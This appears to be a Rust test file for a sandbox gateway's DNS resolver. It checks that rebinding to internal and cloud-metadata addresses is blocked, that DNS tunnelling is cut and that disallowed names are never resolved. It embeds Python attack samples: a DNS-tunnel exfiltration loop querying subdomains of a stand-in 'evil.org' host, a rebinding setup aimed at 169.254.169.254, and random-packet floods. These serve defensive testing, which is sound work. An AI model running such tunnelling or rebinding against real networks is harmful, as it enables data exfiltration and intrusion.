//! The resolver within: what it answers, and what it never asks.

use skep_gateway::net::{Decision, Protocol, Reason, Rules};

use crate::{
    outside::{Names, Outside},
    world::Sandboxes,
};

/// A question by hand: `ask(name, type, over)` gives the code, the number of answers, and the whole message.
const ASK: &str = r"
import struct
def ask(name, kind, tcp=False, server='10.100.0.1'):
    message = struct.pack('>HHHHHH', 7, 256, 1, 0, 0, 0)
    message += b''.join(bytes([len(l)]) + l.encode() for l in name.split('.')) + b'\0' + struct.pack('>HH', kind, 1)
    if tcp:
        s = socket.create_connection((server, 53), 5)
        s.sendall(struct.pack('>H', len(message)) + message)
        got = s.recv(2, socket.MSG_WAITALL)
        got = s.recv(struct.unpack('>H', got)[0], socket.MSG_WAITALL)
    else:
        s = socket.socket(socket.AF_INET6 if ':' in server else socket.AF_INET, socket.SOCK_DGRAM)
        s.settimeout(5)
        s.sendto(message, (server, 53))
        got = s.recv(4096)
    return got[3] & 15, struct.unpack('>H', got[6:8])[0], got
";

pub async fn a_name_that_turns_inward_has_no_address(all: &Sandboxes) {
    let (outside, names) = (Outside::new(), Names::new(&[("evil.org", "1.2.3.4")]));
    for address in ["1.2.3.4:80", "169.254.169.254:80", "127.0.0.1:80"] {
        outside.page(address, "x").await;
    }
    let box_ = all.connected(&outside, &names, Rules::parse(true, &["evil.org".into()], &[]).unwrap()).await;
    assert_eq!(box_.connect("evil.org:80").await, "open");
    for inward in [&["169.254.169.254"][..], &["10.0.0.1", "127.0.0.1", "::1", "::ffff:10.0.0.1", "fd00::1"]] {
        names.say("evil.org", inward);
        assert_eq!(box_.connect("evil.org:80").await, "gaierror", "{inward:?}");
    }
    names.say("evil.org", &["169.254.169.254", "1.2.3.4"]);
    assert_eq!(box_.connect("evil.org:80").await, "open", "what is public of it is left");
    assert!(outside.dialled().iter().all(|to| to.to_string() == "1.2.3.4:80"), "{:?}", outside.dialled());
    let refused = |flow: &skep_gateway::net::Flow| flow.protocol == Protocol::Dns && flow.decision == Decision::Deny(Reason::NotPublic);
    assert!(box_.log.decided.lock().unwrap().iter().any(refused));
}

pub async fn a_tunnel_of_names_is_cut(all: &Sandboxes) {
    let (outside, names) = (Outside::new(), Names::new(&[("good.org", "1.2.3.4")]));
    let box_ = all.connected(&outside, &names, Rules::open()).await;
    let tunnel =
        format!("{ASK}\nprint(sum(ask(f'{{n:04}}.secret.evil.org', 1)[0] == 5 for n in range(300)), ask('good.org', 1)[:2], end='')");
    assert_eq!(box_.python(&tunnel).await, "236 (0, 1)");
    assert_eq!(names.asked().iter().filter(|name| name.ends_with("evil.org")).count(), 64);
}

pub async fn only_addresses_are_answered(all: &Sandboxes) {
    let (outside, names) = (Outside::new(), Names::new(&[("good.org", "1.2.3.4")]));
    let box_ = all.connected(&outside, &names, Rules::open()).await;
    let questions = format!(
        "{ASK}\nfor kind in [1, 28, 5, 16, 15, 65, 10, 255]: print(kind, *ask('good.org', kind)[:2])\n\
         print(*ask('GoOd.oRg', 1, True)[:2], *ask('good.org', 1, False, 'fd00:7368::1')[:2], *ask('no.org', 1)[:2], b'GoOd' in ask('GoOd.oRg', 1)[2])"
    );
    let said = box_.python(&questions).await;
    assert_eq!(said, "1 0 1\n28 0 0\n5 0 0\n16 0 0\n15 0 0\n65 0 0\n10 0 0\n255 0 0\n0 1 0 1 3 0 True\n");
    let garbage =
        "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\nfor n in range(200): s.sendto(os.urandom(n), ('10.100.0.1', 53))\n";
    assert_eq!(box_.python(&format!("{ASK}\n{garbage}print(ask('good.org', 1)[0], end='')")).await, "0");
}

pub async fn names_that_cannot_be_reached_are_not_asked_for(all: &Sandboxes) {
    let (outside, names) = (Outside::new(), Names::new(&[("good.org", "1.2.3.4"), ("data.evil.org", "6.6.6.6")]));
    let rules = Rules::parse(true, &["good.org".into(), "1.1.1.1".into()], &["0.0.0.0/0".into()]).unwrap();
    let box_ = all.connected(&outside, &names, rules).await;
    let questions = format!("{ASK}\nprint(ask('good.org', 1)[0], ask('data.evil.org', 1)[0], ask('data.evil.org', 16)[0], end='')");
    assert_eq!(box_.python(&questions).await, "0 5 5");
    box_.rules.send(Rules::closed()).unwrap();
    assert_eq!(box_.python(&format!("{ASK}\nprint(ask('good.org', 1)[0], end='')")).await, "5");
    assert_eq!(names.asked(), ["good.org"]);
}
